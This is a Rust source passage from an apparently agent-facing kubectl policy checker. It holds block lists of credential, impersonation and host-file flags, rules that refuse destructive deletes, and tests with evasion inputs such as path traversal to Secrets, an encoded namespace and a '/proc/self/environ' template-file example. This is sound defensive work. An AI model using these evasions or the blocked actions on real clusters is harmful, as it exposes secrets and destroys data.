//! What the kubectl tool may run, decided on the parsed [`Command`], never on its spelling:
//! refusals (credentials, endpoints and identities of its own, files on the server's host,
//! interactive and host-side commands, plugins), the risk of what is left, the namespaces it
//! touches, and how it can be previewed (`--dry-run=server` where kubectl honours it, a text
//! otherwise: nothing runs to build a preview).

use super::parse::{Command, ParseError, parse};
use crate::risk::{Assessment, RiskLevel};

/// Why a kubectl command is not run at all.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    #[error(transparent)]
    Parse(#[from] ParseError),
    #[error("`{flag}` is not allowed: {why}")]
    Flag { flag: String, why: &'static str },
    #[error("`kubectl {command}` is not allowed: {why}")]
    Command { command: String, why: &'static str },
    #[error("context `{0}` is not one of the allowed contexts ({1})")]
    Context(String, String),
    #[error("`{0}` looks like a flag where a name is expected")]
    DashName(String),
    #[error("`-f -` reads the manifest: pass its content in `manifest`")]
    NoManifest,
    #[error("`manifest` is given but the command reads none: use `-f -`")]
    UnusedManifest,
    #[error("the manifest is not YAML or JSON read the one way kubectl reads it: {0}")]
    Manifest(String),
    #[error("`{0}` names a subcommand of `kubectl {1}`: write it as the command")]
    Subcommand(String, String),
    #[error(
        "the --raw path `{0}` is not a plain API path (no `..`, `%`, `#`, `//`, backslashes, proxies or node logs)"
    )]
    RawPath(String),
    #[error(
        "`--output={0}` of Secrets is not allowed: a template can transform their values past redaction; use -o yaml or describe (values are hidden)"
    )]
    SecretTemplate(String),
}

/// The namespaces a command reads or changes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Scope {
    /// These namespaces (the default one when the command names none).
    Namespaces(Vec<String>),
    /// Every namespace (`-A`, a cluster-wide `--raw` list).
    All,
    /// Nothing namespaced (`version`, `/healthz`).
    None,
}

/// How a change can be shown before it runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Preview {
    /// Reads need no preview.
    Read,
    /// The argument list of a server-side dry run.
    DryRun(Vec<String>),
    /// kubectl cannot preview it: the plan is the command and this explanation.
    Text(String),
}

/// A command the tool may run: the parsed form, the canonical argument list that runs, its risk,
/// scope and preview.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Checked {
    pub command: Command,
    /// The context it runs against.
    pub context: String,
    /// What runs (without `--context`, which the runner adds with its kubeconfig).
    pub argv: Vec<String>,
    pub assessment: Assessment,
    pub scope: Scope,
    pub preview: Preview,
    /// Whether it only reads.
    pub read_only: bool,
    /// Whether it reads Secrets (their values must be hidden from what it prints).
    pub reads_secrets: bool,
    /// The resource types a change acts on, as written (`clusterrolebinding`, `crb`, `nodes`,
    /// a manifest's kinds), lower-case: the server resolves them by discovery to learn which
    /// are cluster-scoped. Empty for reads.
    pub targets: Vec<String>,
}

/// Where the command runs by default.
#[derive(Debug, Clone, Copy)]
pub struct Defaults<'a> {
    /// The context of the call (its `context` parameter, or the server's).
    pub context: &'a str,
    /// Contexts a call may name with `--context`.
    pub allowed_contexts: &'a [String],
    /// The namespace used when the command names none.
    pub namespace: &'a str,
}

/// Global flags that would change who kubectl is, where it connects or what it writes on the
/// server's host. Every other global flag is allowed.
const REFUSED_GLOBAL: &[(&str, &str)] = &[
    (
        "server",
        "the API server comes from the server's kubeconfig",
    ),
    ("token", "credentials come from the server's kubeconfig"),
    ("kubeconfig", "the kubeconfig is the server's own"),
    ("user", "the credentials are the context's own"),
    ("cluster", "the cluster is the context's own"),
    ("as", "impersonation is not allowed"),
    ("as-group", "impersonation is not allowed"),
    ("as-uid", "impersonation is not allowed"),
    ("username", "credentials come from the server's kubeconfig"),
    ("password", "credentials come from the server's kubeconfig"),
    (
        "client-key",
        "credentials come from the server's kubeconfig",
    ),
    (
        "client-certificate",
        "credentials come from the server's kubeconfig",
    ),
    (
        "certificate-authority",
        "TLS trust comes from the server's kubeconfig",
    ),
    (
        "tls-server-name",
        "TLS trust comes from the server's kubeconfig",
    ),
    (
        "insecure-skip-tls-verify",
        "TLS verification cannot be turned off",
    ),
    ("cache-dir", "the cache directory is the server's own"),
    ("profile", "profiles are written to the server's disk"),
    (
        "profile-output",
        "profiles are written to the server's disk",
    ),
    ("vmodule", "logging is the server's own"),
];

/// Flags of commands that read or write files on the server's host.
const FILE_FLAGS: &[(&str, &str)] = &[
    ("kustomize", "it reads a directory on the server's host"),
    (
        "from-file",
        "it reads files on the server's host: use --from-literal",
    ),
    (
        "from-env-file",
        "it reads files on the server's host: use --from-literal",
    ),
    ("env-file", "it reads files on the server's host"),
    ("cert", "it reads files on the server's host"),
    ("key", "it reads files on the server's host"),
    ("output-directory", "it writes files on the server's host"),
    (
        "patch-file",
        "it reads a file on the server's host: pass the patch in -p",
    ),
    ("edit", "it opens an editor on the server's host"),
];

/// Commands that never run through the tool, and why.
const REFUSED_COMMANDS: &[(&str, &str)] = &[
    (
        "exec",
        "use the pod_exec tool, which bounds and redacts what a container prints",
    ),
    ("attach", "it is interactive"),
    ("edit", "it opens an editor: use patch or apply"),
    (
        "apply edit-last-applied",
        "it opens an editor: use patch or apply",
    ),
    ("cp", "it copies files to or from the server's host"),
    ("port-forward", "it opens ports on the server's host"),
    ("proxy", "it opens a port on the server's host"),
    (
        "debug",
        "it starts containers interactively and has no dry run",
    ),
    ("plugin", "plugins run programs of the server's host"),
    ("completion", "it only prints shell code"),
    ("kustomize", "it reads directories on the server's host"),
    ("create token", "it mints a service account's credentials"),
];

/// Read-only commands.
const READS: &[&str] = &[
    "get",
    "describe",
    "logs",
    "top node",
    "top pod",
    "explain",
    "api-resources",
    "api-versions",
    "version",
    "events",
    "cluster-info",
    "cluster-info dump",
    "auth can-i",
    "auth whoami",
    "rollout status",
    "rollout history",
    "config get-contexts",
    "config current-context",
    "config get-clusters",
    "config get-users",
    "wait",
    "diff",
    "options",
];

/// The kinds whose delete is never run, by every name kubectl takes for them.
const FORBIDDEN_KINDS: &[(&str, &str)] = &[
    ("namespace", "namespace"),
    ("namespaces", "namespace"),
    ("ns", "namespace"),
    ("node", "node"),
    ("nodes", "node"),
    ("no", "node"),
    ("persistentvolume", "persistent volume"),
    ("persistentvolumes", "persistent volume"),
    ("pv", "persistent volume"),
    ("persistentvolumeclaim", "persistent volume claim"),
    ("persistentvolumeclaims", "persistent volume claim"),
    ("pvc", "persistent volume claim"),
];

/// The forbidden kind a resource word names: `ns`, `Namespaces`, `namespaces.v1.`,
/// `namespace/x`, `pods,ns`.
pub fn forbidden_kind(word: &str) -> Option<&'static str> {
    kinds_in(word).find_map(|kind| {
        FORBIDDEN_KINDS
            .iter()
            .find(|(alias, _)| *alias == kind)
            .map(|(_, what)| *what)
    })
}

/// The plain kinds a resource word names, as kubectl reads one: `pods,Secrets.v1` → `pods`,
/// `secrets`; `ns/shop` → `ns`.
fn kinds_in(word: &str) -> impl Iterator<Item = String> + '_ {
    word.split(',').map(|part| {
        let kind = part.split('/').next().unwrap_or(part);
        kind.split('.').next().unwrap_or(kind).to_ascii_lowercase()
    })
}

/// A `--raw` path's parts: `/api/v1/namespaces/x/pods/y` → namespace `x`, resource `pods`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RawPath {
    pub namespace: Option<String>,
    /// The resource type (`pods`, `namespaces`), when the path names one.
    pub resource: Option<String>,
    pub name: Option<String>,
}

/// Parse a `--raw` path as the API server routes it; refuse spellings that would be read in
/// another way further down (`..`, escapes, empty segments).
pub fn raw_path(raw: &str) -> Result<RawPath, Refusal> {
    let path = raw.split('?').next().unwrap_or_default();
    let bad = !path.starts_with('/')
        || path.contains("//")
        || path.contains('%')
        || path.contains('\\')
        || raw.contains('#')
        || path
            .split('/')
            .any(|s| s == ".." || s == "." || s == "proxy")
        || path.starts_with("/logs");
    if bad {
        return Err(Refusal::RawPath(raw.to_owned()));
    }
    let segments: Vec<&str> = path.split('/').filter(|s| !s.is_empty()).collect();
    let rest = match segments.as_slice() {
        ["api", _version, rest @ ..] => rest,
        ["apis", _group, _version, rest @ ..] => rest,
        _ => return Ok(RawPath::default()),
    };
    let parsed = match rest {
        ["namespaces", ns, resource, rest @ ..] => RawPath {
            namespace: Some((*ns).to_owned()),
            resource: Some((*resource).to_owned()),
            name: rest.first().map(|n| (*n).to_owned()),
        },
        ["namespaces", ns] => RawPath {
            namespace: None,
            resource: Some("namespaces".into()),
            name: Some((*ns).to_owned()),
        },
        [resource, rest @ ..] => RawPath {
            namespace: None,
            resource: Some((*resource).to_owned()),
            name: rest.first().map(|n| (*n).to_owned()),
        },
        [] => RawPath::default(),
    };
    Ok(parsed)
}

/// The resource words of a command's names: `pods,secrets x` → `pods,secrets`; `secret/x
/// deploy/y` → both.
fn kind_words(command: &Command) -> Vec<&str> {
    match command.args.iter().find(|a| a.contains('/')) {
        Some(_) => command.args.iter().map(String::as_str).collect(),
        None => command
            .args
            .first()
            .map(String::as_str)
            .into_iter()
            .collect(),
    }
}

/// Whether a resource word names Secrets (`secret`, `Secrets`, `secrets.v1`, `secret/x`, `pods,secrets`).
fn is_secret(word: &str) -> bool {
    kinds_in(word).any(|kind| matches!(kind.as_str(), "secret" | "secrets"))
}

/// Output formats that run a template over what was read.
const TEMPLATED: &[&str] = &[
    "go-template",
    "template",
    "jsonpath",
    "jsonpath-as-json",
    "custom-columns",
];

/// Kinds a manifest holds: each document's, and each item's of a list — an item without a kind
/// takes its typed list's (`NamespaceList` → `Namespace`), as kubectl reads it. A manifest that
/// does not parse here is refused: what kubectl would make of it is unknown.
fn manifest_kinds(manifest: &str) -> Result<Vec<String>, Refusal> {
    let docs: Vec<serde_json::Value> =
        serde_saphyr::from_multiple(manifest).map_err(|e| Refusal::Manifest(e.to_string()))?;
    let mut kinds = Vec::new();
    for doc in docs {
        let kind = doc["kind"].as_str().unwrap_or_default();
        if let Some(items) = doc["items"].as_array() {
            let item_kind = kind.strip_suffix("List").unwrap_or_default();
            kinds.extend(items.iter().map(|i| {
                i["kind"]
                    .as_str()
                    .filter(|k| !k.is_empty())
                    .unwrap_or(item_kind)
                    .to_owned()
            }));
        }
        if !kind.is_empty() {
            kinds.push(kind.to_owned());
        }
    }
    Ok(kinds)
}

/// Check a kubectl argument list (without `kubectl`) and the manifest `-f -` would read.
pub fn check(
    argv: &[String],
    manifest: Option<&str>,
    at: Defaults<'_>,
) -> Result<Checked, Refusal> {
    let mut command = parse(argv)?;
    let name = command.name();
    if let Some((_, why)) = REFUSED_COMMANDS
        .iter()
        .find(|(c, _)| *c == name || *c == command.verb())
    {
        return Err(Refusal::Command { command: name, why });
    }
    let table = &super::table::TABLE;
    for flag in &command.flags {
        // A command's own flag shadows a global of its name (`create rolebinding --user` names
        // the subject, not kubectl's credentials).
        let local = table
            .command(&command.path)
            .is_some_and(|c| c.flags.iter().any(|f| f.long == flag.name));
        let globals = REFUSED_GLOBAL.iter().filter(|_| !local);
        if let Some((f, why)) = globals.chain(FILE_FLAGS).find(|(f, _)| *f == flag.name) {
            return Err(Refusal::Flag {
                flag: format!("--{f}"),
                why,
            });
        }
    }
    if let Some(v) = command
        .value("v")
        .filter(|v| v.parse::<u8>().map_or(true, |v| v > 5))
    {
        return Err(Refusal::Flag {
            flag: format!("-v={v}"),
            why: "levels above 5 print requests and responses",
        });
    }
    if let Some(dash) = command
        .args
        .iter()
        .find(|a| a.starts_with('-') && *a != "-")
    {
        return Err(Refusal::DashName(dash.clone()));
    }
    // A name that is a subcommand of the command (after `--`, or after a word cobra skips) would
    // be read as that subcommand once the argument list is written again.
    if let Some(word) = command
        .args
        .iter()
        .find(|a| super::table::TABLE.child(&command.path, a).is_some())
    {
        return Err(Refusal::Subcommand(word.clone(), name));
    }
    // Output formats that read a file on the server's host (go-template-file=/proc/self/environ).
    if let Some(o) = command.value("output").filter(|o| {
        let format = o.split('=').next().unwrap_or_default();
        format.contains("file")
    }) {
        return Err(Refusal::Flag {
            flag: format!("--output={o}"),
            why: "output formats that read a file on the server's host are not allowed",
        });
    }
    // Files: only the call's own manifest, on standard input.
    let mut reads_manifest = false;
    for f in command.values("filename") {
        if f != "-" {
            return Err(Refusal::Flag {
                flag: format!("--filename={f}"),
                why: "files and URLs are read on the server's host: pass the manifest in `manifest` with `-f -`",
            });
        }
        reads_manifest = true;
    }
    match (reads_manifest, manifest) {
        (true, None) => return Err(Refusal::NoManifest),
        (false, Some(_)) => return Err(Refusal::UnusedManifest),
        _ => {}
    }
    if command.path.first().is_some_and(|p| p == "config") && !READS.contains(&name.as_str()) {
        return Err(Refusal::Command {
            command: name.clone(),
            why: if name == "config view" {
                "it prints credentials kubectl does not hide (passwords, auth-provider tokens, exec environments): use contexts_list"
            } else {
                "the kubeconfig is the server's own"
            },
        });
    }
    if name == "run"
        && ["attach", "stdin", "tty", "rm"]
            .iter()
            .any(|f| command.on(f))
    {
        return Err(Refusal::Command {
            command: "run --attach".into(),
            why: "it is interactive and kubectl cannot dry-run it",
        });
    }
    // The context: the call's, or a `--context` among the allowed ones; it is not a flag of what
    // runs (the runner adds it with its kubeconfig).
    let context = match command.value("context") {
        Some(c) if c != at.context && !at.allowed_contexts.iter().any(|a| a == c) => {
            return Err(Refusal::Context(
                c.to_owned(),
                at.allowed_contexts.join(", "),
            ));
        }
        Some(c) => c.to_owned(),
        None => at.context.to_owned(),
    };
    command.flags.retain(|f| f.name != "context");
    // The namespace is always explicit in what runs, so kubectl enforces it on manifests too.
    let namespace = command
        .value("namespace")
        .filter(|n| !n.is_empty())
        .unwrap_or(at.namespace)
        .to_owned();
    if command.verb() != "config" {
        command.flags.retain(|f| f.name != "namespace");
        command.flags.push(super::parse::Flag {
            name: "namespace".into(),
            value: namespace.clone(),
            implicit: false,
        });
    }
    let raw = match command.value("raw").filter(|_| command.verb() != "config") {
        Some(r) => Some(raw_path(r)?),
        None => None,
    };
    let scope = scope(&command, &namespace, raw.as_ref());
    let kinds = match manifest {
        Some(m) => manifest_kinds(m)?,
        None => Vec::new(),
    };
    let reads_secrets = kind_words(&command).into_iter().any(is_secret)
        || raw
            .as_ref()
            .and_then(|r| r.resource.as_deref())
            .is_some_and(is_secret)
        || kinds.iter().any(|k| is_secret(k));
    let format = command
        .value("output")
        .map(|o| o.split('=').next().unwrap_or_default());
    if reads_secrets && (format.is_some_and(|f| TEMPLATED.contains(&f)) || command.has("template"))
    {
        return Err(Refusal::SecretTemplate(
            command.value("output").unwrap_or("go-template").to_owned(),
        ));
    }
    let read_only = READS.contains(&name.as_str())
        || matches!(command.value("dry-run"), Some("server" | "client"));
    let mut assessment = assess(&command, &kinds, raw.as_ref(), read_only);
    let targets = match (read_only, manifest) {
        (true, _) => Vec::new(),
        (false, Some(m)) => targets(&command, &manifest_types(m)?),
        (false, None) => targets(&command, &[]),
    };
    if assessment.level == RiskLevel::Forbidden {
        return Ok(Checked {
            argv: command.argv(false),
            command,
            context,
            assessment,
            scope,
            preview: Preview::Text("forbidden: it is never run".into()),
            read_only: false,
            reads_secrets,
            targets,
        });
    }
    if raw.is_some() && command.verb() != "get" {
        return Err(Refusal::Command {
            command: format!("{name} --raw"),
            why: "kubectl ignores --dry-run for raw writes: use the typed form",
        });
    }
    if !read_only {
        raise(&mut assessment, &command, &scope);
    }
    let preview = if read_only {
        Preview::Read
    } else if super::table::TABLE.long(&command.path, "dry-run").is_some() {
        Preview::DryRun(command.argv(true))
    } else {
        Preview::Text(format!(
            "`kubectl {name}` has no server-side dry run; nothing was run to preview it"
        ))
    };
    Ok(Checked {
        argv: command.argv(false),
        command,
        context,
        assessment,
        scope,
        targets,
        preview,
        read_only,
        reads_secrets,
    })
}

/// The resource types a change names, lower-case and with their group when written
/// (`clusterroles.rbac.authorization.k8s.io`): the kind a `create` subcommand makes, pods for
/// `run`, nodes for the node commands, signing requests for `certificate`, a manifest's kinds
/// (`kind.group`), else every type among its words as kubectl reads them — label and annotation
/// pairs (`k=v`, `k-`) and `set`'s assignments left out, then `TYPE NAME…` or `TYPE/NAME…`.
fn targets(command: &Command, types: &[String]) -> Vec<String> {
    let mut targets: Vec<String> = types.to_vec();
    match command.path.as_slice() {
        [create, kind, ..] if create == "create" => targets.push(kind.clone()),
        [run] if run == "run" => targets.push("pods".into()),
        [verb, ..] if matches!(verb.as_str(), "cordon" | "uncordon" | "drain" | "taint") => {
            targets.push("nodes".into());
        }
        [verb, ..] if verb == "certificate" => targets.push("certificatesigningrequests".into()),
        _ if types.is_empty() => {
            let mut words = command
                .args
                .iter()
                .filter(|w| !w.contains('=') && !w.ends_with('-'));
            // The first word is a type unless it is TYPE/NAME; every TYPE/NAME adds its type.
            if let Some(first) = words.next() {
                targets.push(first.split('/').next().unwrap_or(first).to_owned());
            }
            targets.extend(
                words
                    .filter_map(|w| w.split_once('/'))
                    .map(|(kind, _)| kind.to_owned()),
            );
        }
        _ => {}
    }
    for target in &mut targets {
        *target = target.to_ascii_lowercase();
    }
    targets.sort();
    targets.dedup();
    targets
}

/// A manifest's types as `kind.group` (`clusterrolebinding.rbac.authorization.k8s.io`,
/// `namespace` for the core group), each list item's included.
fn manifest_types(manifest: &str) -> Result<Vec<String>, Refusal> {
    let docs: Vec<serde_json::Value> =
        serde_saphyr::from_multiple(manifest).map_err(|e| Refusal::Manifest(e.to_string()))?;
    let mut types = Vec::new();
    let mut add = |api_version: &str, kind: &str| {
        let group = api_version.rsplit_once('/').map_or("", |(g, _)| g);
        types.push(match group {
            "" => kind.to_owned(),
            group => format!("{kind}.{group}"),
        });
    };
    for doc in &docs {
        let (api_version, kind) = (
            doc["apiVersion"].as_str().unwrap_or_default(),
            doc["kind"].as_str().unwrap_or_default(),
        );
        if let Some(items) = doc["items"].as_array() {
            let item_kind = kind.strip_suffix("List").unwrap_or_default();
            for item in items {
                let kind = item["kind"]
                    .as_str()
                    .filter(|k| !k.is_empty())
                    .unwrap_or(item_kind);
                add(item["apiVersion"].as_str().unwrap_or(api_version), kind);
            }
        } else if !kind.is_empty() {
            add(api_version, kind);
        }
    }
    Ok(types)
}

fn scope(command: &Command, namespace: &str, raw: Option<&RawPath>) -> Scope {
    if command.on("all-namespaces") {
        return Scope::All;
    }
    if let Some(raw) = raw {
        return match (&raw.namespace, &raw.resource) {
            (Some(ns), _) => Scope::Namespaces(vec![ns.clone()]),
            // A namespace object itself, or a cluster-wide list of a namespaced kind.
            (None, Some(r)) if r == "namespaces" => match &raw.name {
                Some(ns) => Scope::Namespaces(vec![ns.clone()]),
                None => Scope::All,
            },
            (None, Some(_)) => Scope::All,
            (None, None) => Scope::None,
        };
    }
    if command.name() == "cluster-info dump" {
        let named = command.values("namespaces");
        return if named.is_empty() {
            Scope::Namespaces(vec!["kube-system".into(), namespace.to_owned()])
        } else {
            Scope::Namespaces(named.into_iter().map(str::to_owned).collect())
        };
    }
    if matches!(
        command.verb(),
        "version" | "api-versions" | "api-resources" | "explain" | "options" | "config"
    ) {
        return Scope::None;
    }
    // A node's drain or taint acts on its pods in every namespace; its description lists them.
    let node = kind_words(command)
        .first()
        .is_some_and(|w| kinds_in(w).any(|k| matches!(k.as_str(), "node" | "nodes" | "no")));
    if matches!(command.verb(), "drain" | "taint") || (command.verb() == "describe" && node) {
        return Scope::All;
    }
    Scope::Namespaces(vec![namespace.to_owned()])
}

/// The risk of the command itself.
fn assess(
    command: &Command,
    manifest_kinds: &[String],
    raw: Option<&RawPath>,
    read_only: bool,
) -> Assessment {
    let name = command.name();
    let target = command.args.join(" ");
    let ns = command.value("namespace").unwrap_or_default();
    let where_ = if ns.is_empty() {
        String::new()
    } else {
        format!(" in namespace {ns}")
    };
    // Deletes of the forbidden kinds, in every form kubectl takes a kind.
    // `replace --force` and `apply --force` delete and recreate; `apply --prune` deletes.
    let deletes = name == "delete"
        || (matches!(name.as_str(), "replace" | "apply") && command.on("force"))
        || (command.verb() == "apply" && command.on("prune"));
    if deletes {
        let kinds = kind_words(command);
        let from_raw = raw.and_then(|r| r.resource.as_deref());

        let forbidden = kinds
            .into_iter()
            .chain(from_raw)
            .chain(manifest_kinds.iter().map(String::as_str))
            .find_map(forbidden_kind);
        if let Some(what) = forbidden {
            return Assessment::new(
                RiskLevel::Forbidden,
                format!(
                    "deleting a {what} destroys what lives in it or on it and cannot be undone; it is never executed"
                ),
            );
        }
        if command.verb() == "apply" && command.on("prune") {
            return Assessment::new(
                RiskLevel::Forbidden,
                "`apply --prune` deletes what the manifest leaves out, namespaces and volumes among them by default; it is never executed",
            );
        }
    }
    if read_only {
        return Assessment::new(
            RiskLevel::Low,
            if READS.contains(&name.as_str()) {
                format!("`{name}` only reads")
            } else {
                format!("`{name} --dry-run` changes nothing")
            },
        );
    }
    let medium = |what: String| Assessment::new(RiskLevel::Medium, what);
    let high = |what: String| Assessment::new(RiskLevel::High, what);
    match name.as_str() {
        "rollout restart" => medium(format!(
            "restarts the pods of {target}{where_} one by one; the rollout can be undone"
        )),
        "rollout undo" => medium(format!(
            "rolls {target}{where_} back to an earlier revision; it can be rolled forward again"
        )),
        "rollout pause" | "rollout resume" => medium(format!(
            "{}s the rollout of {target}{where_}",
            command.path[1]
        )),
        "set image" | "set resources" | "set env" => medium(format!(
            "changes the {} of {target}{where_}, which starts a new rollout",
            command.path[1]
        )),
        "scale" => {
            let replicas = command.value("replicas").unwrap_or_default();
            let count = go_int(replicas);
            if count == Some(0) {
                high(format!(
                    "scales {target}{where_} to zero: the service stops serving"
                ))
            } else if let Some(why) = count.and_then(|c| crate::risk::scale_out_of_bounds(c, None))
            {
                high(format!("scales {target}{where_}: {why}"))
            } else {
                medium(format!(
                    "scales {target}{where_} to {replicas} replicas; reversible"
                ))
            }
        }
        "label" | "annotate" | "cordon" | "uncordon" => {
            medium(format!("`{name}` on {target}{where_} is reversible"))
        }
        "delete" => {
            let pods = command
                .args
                .first()
                .is_some_and(|w| kinds_in(w).any(|k| matches!(k.as_str(), "pod" | "pods" | "po")));
            high(if pods {
                format!(
                    "deletes {target}{where_}; a controller usually recreates pods, bare pods are gone"
                )
            } else {
                format!("deletes {target}{where_}")
            })
        }
        "drain" => high(format!("drains node {target}: evicts every pod on it")),
        _ => high(format!(
            "`{name}` changes cluster state in ways that may not be reversible"
        )),
    }
}

/// Raise a change's risk by its scope: a system namespace, everything at once.
fn raise(a: &mut Assessment, command: &Command, scope: &Scope) {
    if let Scope::Namespaces(list) = scope
        && let Some(ns) = list.iter().find(|n| n.starts_with("kube-"))
    {
        a.raise(
            RiskLevel::High,
            format!("changes the system namespace {ns}"),
        );
    }
    if command.on("all") {
        a.raise(
            RiskLevel::High,
            "`--all` changes every matching object at once",
        );
    }
    if *scope == Scope::All {
        a.raise(RiskLevel::High, "changes objects across all namespaces");
    }
    if command.has("selector")
        && command
            .value("selector")
            .is_some_and(|s| s.trim().is_empty())
    {
        a.raise(
            RiskLevel::High,
            "an empty label selector matches everything",
        );
    }
}

/// An integer as pflag reads one (Go's `strconv.ParseInt(s, 0, 64)`): a sign, `0x`/`0o`/`0b`/`0`
/// prefixes and `_` between digits.
fn go_int(text: &str) -> Option<i64> {
    let (negative, digits) = match text.strip_prefix('-') {
        Some(rest) => (true, rest),
        None => (false, text.strip_prefix('+').unwrap_or(text)),
    };
    let lower = digits.to_ascii_lowercase();
    let (radix, body) = if let Some(b) = lower.strip_prefix("0x") {
        (16, b.to_owned())
    } else if let Some(b) = lower.strip_prefix("0o") {
        (8, b.to_owned())
    } else if let Some(b) = lower.strip_prefix("0b") {
        (2, b.to_owned())
    } else if lower.len() > 1 && lower.starts_with('0') {
        (8, lower[1..].to_owned())
    } else {
        (10, lower)
    };
    let body = body.replace('_', "");
    let value = i64::from_str_radix(&body, radix).ok()?;
    Some(if negative { -value } else { value })
}

#[cfg(test)]
mod tests {
    //! Each case of the adversarial review (issue 25) by name, and the levels of ordinary commands.
    use super::*;

    fn argv(s: &str) -> Vec<String> {
        s.split_whitespace().map(str::to_owned).collect()
    }

    const CONTEXTS: &[&str] = &["sandbox", "sandbox-readonly"];

    fn run(s: &str, manifest: Option<&str>) -> Result<Checked, Refusal> {
        let allowed: Vec<String> = vec!["sandbox".into()];
        check(
            &argv(s),
            manifest,
            Defaults {
                context: CONTEXTS[0],
                allowed_contexts: &allowed,
                namespace: "shop",
            },
        )
    }

    fn ok(s: &str) -> Checked {
        run(s, None).unwrap_or_else(|e| panic!("{s}: {e}"))
    }

    fn level(s: &str) -> RiskLevel {
        ok(s).assessment.level
    }

    fn refused(s: &str) -> Refusal {
        match run(s, None) {
            Ok(c) => panic!("{s} was accepted: {:?}", c.argv),
            Err(e) => e,
        }
    }

    #[test]
    fn levels() {
        use RiskLevel::*;
        for (cmd, want) in [
            ("get pods -n shop", Low),
            ("get pods -A", Low),
            ("describe pod web-1", Low),
            ("logs web-1 --previous -c app", Low),
            ("top pod -n kube-system", Low),
            ("auth can-i delete pods", Low),
            ("rollout status deploy/web", Low),
            ("delete pod web-1 --dry-run=server", Low),
            ("scale deploy/web --replicas=3 -n shop", Medium),
            ("rollout restart deploy/web", Medium),
            ("rollout undo deployment web --to-revision 2", Medium),
            ("label pod web-1 team=a", Medium),
            ("cordon node-1", Medium),
            ("set resources deploy/worker --limits=memory=128Mi", Medium),
            ("set image deploy/web web=nginx:2", Medium),
            ("delete pod web-1 -n shop", High),
            ("apply -f -", High),
            ("drain node-1", High),
            ("taint node node-1 k=v:NoExecute", High),
            ("scale deploy/coredns --replicas=1 -n kube-system", High),
            ("label pods --all team=a", High),
            ("annotate pods -A x=y", High),
            ("delete pods -l app=web", High),
            ("delete pods -l=", High),
            ("run pod --image=busybox -- sleep 1", High),
            ("delete namespace shop", Forbidden),
            ("delete ns shop", Forbidden),
            ("delete ns/shop", Forbidden),
            ("delete pods,namespaces x", Forbidden),
            ("delete Nodes node-1", Forbidden),
            ("delete no node-1", Forbidden),
            ("delete pv data", Forbidden),
            ("delete persistentvolumeclaims data", Forbidden),
            ("delete pvc/data -n shop", Forbidden),
            ("delete namespaces.v1 shop", Forbidden),
            ("delete ns shop --dry-run=server", Forbidden),
        ] {
            let run = if cmd.contains("-f -") {
                run(cmd, Some("kind: ConfigMap"))
            } else {
                run(cmd, None)
            };
            let got = run
                .unwrap_or_else(|e| panic!("{cmd}: {e}"))
                .assessment
                .level;
            assert_eq!(got, want, "{cmd}");
        }
    }

    #[test]
    fn reasons_are_human() {
        assert_eq!(
            ok("delete pod web-1 -n prod").assessment.reason,
            "deletes pod web-1 in namespace prod; a controller usually recreates pods, bare pods are gone"
        );
    }

    #[test]
    fn dash_dash_plan_mode_set_image() {
        let c = ok("set image deploy/web -n shop -- web=busybox:evil");
        assert_eq!(
            c.preview,
            Preview::DryRun(argv(
                "set image --namespace=shop --dry-run=server deploy/web web=busybox:evil"
            ))
        );
        assert_eq!(
            c.argv,
            argv("set image --namespace=shop deploy/web web=busybox:evil")
        );
    }

    #[test]
    fn dash_dash_plan_mode_label_and_annotate() {
        for verb in ["label", "annotate"] {
            let c = ok(&format!("{verb} pod web-1 -- team=evil"));
            let Preview::DryRun(dry) = c.preview else {
                panic!("{verb}: no dry run");
            };
            let dash = dry.iter().position(|a| a == "--");
            let flag = dry.iter().position(|a| a == "--dry-run=server").unwrap();
            assert!(dash.is_none_or(|d| flag < d), "{dry:?}");
        }
    }

    #[test]
    fn dash_dash_plan_mode_run() {
        let c = ok("run pod --image=busybox -- sleep 1");
        assert_eq!(
            c.preview,
            Preview::DryRun(argv(
                "run --image=busybox --namespace=shop --dry-run=server pod -- sleep 1"
            ))
        );
        assert!(matches!(
            refused("run pod --image=busybox -it -- sh"),
            Refusal::Command { .. }
        ));
        assert!(matches!(
            refused("run pod --image=busybox --attach -- sh"),
            Refusal::Command { .. }
        ));
    }

    #[test]
    fn forbidden_delete_raw_path() {
        assert_eq!(
            ok("delete --raw /api/v1/namespaces/X").assessment.level,
            RiskLevel::Forbidden
        );
        assert_eq!(
            ok("delete --raw /api/v1/persistentvolumes/data")
                .assessment
                .level,
            RiskLevel::Forbidden
        );
        // Other raw writes: kubectl ignores --dry-run for them.
        assert!(matches!(
            refused("delete --raw /api/v1/namespaces/shop/pods/web-1"),
            Refusal::Command { .. }
        ));
        assert!(matches!(
            refused("get --raw /api/v1/namespaces/../secrets"),
            Refusal::RawPath(_)
        ));
        assert!(matches!(
            refused("get --raw /api//v1/secrets"),
            Refusal::RawPath(_)
        ));
        assert!(matches!(
            refused("get --raw /api/v1/namespaces/%6bube-system/pods"),
            Refusal::RawPath(_)
        ));
    }

    #[test]
    fn forbidden_delete_value_flags_before_the_kind() {
        for cmd in [
            "delete --request-timeout 0 namespace X",
            "delete -v 0 ns X",
            "delete --grace-period 0 ns X",
            "delete --wait=false --cascade=foreground pv data",
            "-n shop delete ns X",
            "delete --dry-run ns X",
        ] {
            assert_eq!(level(cmd), RiskLevel::Forbidden, "{cmd}");
        }
    }

    #[test]
    fn an_implicit_value_never_takes_the_next_word() {
        // kubectl reads `foreground` as the kind here (and fails): so do we, and it runs bare.
        let c = ok("delete --cascade foreground pv data");
        assert_eq!(c.command.args, ["foreground", "pv", "data"]);
        assert_eq!(
            c.argv,
            argv("delete --cascade --namespace=shop foreground pv data")
        );
    }

    #[test]
    fn forbidden_delete_from_a_manifest() {
        let ns = "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: shop\n";
        let c = run("delete -f -", Some(ns)).unwrap();
        assert_eq!(c.assessment.level, RiskLevel::Forbidden);
        let list = "apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: PersistentVolumeClaim\n  metadata: {name: d}\n";
        assert_eq!(
            run("replace --force -f -", Some(list))
                .unwrap()
                .assessment
                .level,
            RiskLevel::Forbidden
        );
        assert_eq!(
            run("apply --prune -l a=b -f -", Some("kind: ConfigMap"))
                .unwrap()
                .assessment
                .level,
            RiskLevel::Forbidden
        );
        assert_eq!(run("delete -f -", None), Err(Refusal::NoManifest));
